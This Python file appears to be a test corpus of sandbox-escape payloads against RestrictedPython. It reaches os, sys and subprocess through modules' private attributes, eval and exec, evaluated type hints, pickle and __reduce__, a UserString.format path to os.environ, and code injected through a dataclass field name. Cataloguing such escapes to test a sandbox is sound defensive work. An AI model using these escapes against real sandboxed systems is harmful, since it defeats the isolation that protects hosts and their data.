"""Ways out of RestrictedPython through modules, and through what the library does for a program."""

MODULES = {
    "import": "import os\nprint('ESCAPED', os.getpid())",
    "import by function": "print('ESCAPED', __import__('os').getpid())",
    "importlib": "import importlib\nprint('ESCAPED', importlib.import_module('os').getpid())",
    "ctypes": "import ctypes\nprint('ESCAPED', ctypes.CDLL(None))",
    "subprocess": "import subprocess\nprint('ESCAPED', subprocess.Popen)",
    "a private name of a module": "import random\nprint('ESCAPED', random._os)",
    "importing a private name": "from random import _os\nprint('ESCAPED', _os)",
    "a module of a module": "import json\nprint('ESCAPED', json.codecs.sys.modules['os'])",
    "importing a module of a module": "from json import codecs\nprint('ESCAPED', codecs.sys)",
    "importing sys from enum": "from enum import sys\nprint('ESCAPED', sys.modules)",
    "sys of dataclasses": "import dataclasses\nprint('ESCAPED', dataclasses.sys)",
    "sys of typing": "import typing\nprint('ESCAPED', typing.sys)",
    "sys of statistics": "import statistics\nprint('ESCAPED', statistics.sys)",
    "builtins of re's module": "import re\nprint('ESCAPED', re.enum.bltns)",
    "the dictionary of a module": "import math\nprint('ESCAPED', math.__dict__)",
    "the loader of a module": "import math\nprint('ESCAPED', math.__loader__)",
    "changing a module": "import math\nmath.pi = 3\nprint('ESCAPED')",
    "changing a module by setattr": "import math\nsetattr(math, 'pi', 3)\nprint('ESCAPED')",
    "the builtins' dictionary": "print('ESCAPED', __builtins__)",
}

CODE = {
    "eval": "print('ESCAPED', eval('1 + 1'))",
    "exec": "exec('print(\"ESCAPED\")')",
    "compile": "print('ESCAPED', compile('1', 'x', 'eval'))",
    "hints that are evaluated": (
        "import typing\n"
        "class C:\n    x: '__import__(\"os\").getpid() and int'\n"
        "print('ESCAPED', typing.get_type_hints(C))"
    ),
    "a reference that is evaluated": (
        "import typing\n"
        "print('ESCAPED', typing.ForwardRef('__import__(\"os\").P_PID or int')"
        "._evaluate({}, {}, recursive_guard=frozenset()))"
    ),
    "globals": "print('ESCAPED', globals()['__builtins__'])",
    "vars": "print('ESCAPED', vars(object))",
    "breakpoint by hook": "import sys\nsys.breakpointhook = print\nbreakpoint('ESCAPED')",
    "unpickling": ("import pickle\nprint('ESCAPED', pickle.loads(b'cos\\ngetpid\\n(tR.'))"),
    "copying by __reduce__": (
        "import copy\nclass C:\n    def __reduce__(self): return (eval, ('1 + 1',))\n"
        "print('ESCAPED', copy.copy(C()))"
    ),
    "a function of code": (
        "import types\nprint('ESCAPED', types.FunctionType((lambda: 1).__code__, {})())"
    ),
}

# The library itself reads and sets attributes and writes code: no guard stands there.
_COPIED = """import copy, functools, json, typing
def give(target, name, value):
    class C: pass
    reduced = (lambda: target, (), (None, {name: value}))
    made = functools.cached_property(lambda self: lambda _: reduced)
    made.__set_name__(None, '__reduce_ex__')
    C.made = made
    c = C()
    c.made
    copy.deepcopy(c)
"""
LIBRARY = {
    "format of UserString": (
        "import collections\n"
        "text = collections.UserString('{0.__class__.__base__}')\n"
        "print(text.format(()) and 'ESCAPED')"
    ),
    "format_map of UserString": (
        "import collections\n"
        "text = collections.UserString('{a.__class__.__base__}')\n"
        "print(text.format_map({'a': ()}) and 'ESCAPED')"
    ),
    "format inherited from UserString": (
        "import collections\nclass S(collections.UserString): pass\n"
        "print(S('{0.__init__.__globals__[_sys].modules[os].environ}').format(S('')) and 'ESCAPED')"
    ),
    "a lookup that copying asks": (
        "import copy, json\n"
        "class C:\n"
        "    def __getattribute__(self, name):\n"
        "        if name == '__reduce_ex__':\n"
        "            return lambda _: (lambda: json.JSONEncoder, (), (None, {'x': 'ESCAPED'}))\n"
        "copy.deepcopy(C())\n"
        "print(json.JSONEncoder.x)"
    ),
    "an attribute set by copying": (
        _COPIED + "give(json.JSONEncoder, 'x', 'ESCAPED')\nprint(json.JSONEncoder.x)"
    ),
    "a reference evaluated after copying": (
        _COPIED + "ref = typing.get_args(typing.List['__import__(\"os\").getpid'])[0]\n"
        "give(type(ref), '__module__', '__main__')\n"
        "try: call = ref._evaluate({}, {}, recursive_guard=frozenset())\n"
        "except AttributeError: call = ref.evaluate()\n"
        "print('ESCAPED', call())"
    ),
    "code in the name of a field": (
        "import dataclasses\n"
        "M = dataclasses.MISSING\n"
        "class F(dataclasses.Field):\n"
        "    reads = 0\n"
        "    @property\n"
        "    def name(self):\n"
        "        F.reads += 1\n"
        "        return 'x{().__class__.__base__}' if F.reads == number else 'x'\n"
        "    @name.setter\n"
        "    def name(self, value): pass\n"
        "for number in range(1, 12):\n"
        "    F.reads = 0\n"
        "    class C:\n"
        "        x: int = F(0, M, True, True, None, True, None, False)\n"
        "    try: text = repr(dataclasses.dataclass(init=False, eq=False)(C)())\n"
        "    except SyntaxError: text = ''\n"
        "    if \"class 'object'\" in text: print('ESCAPED', text)"
    ),
}
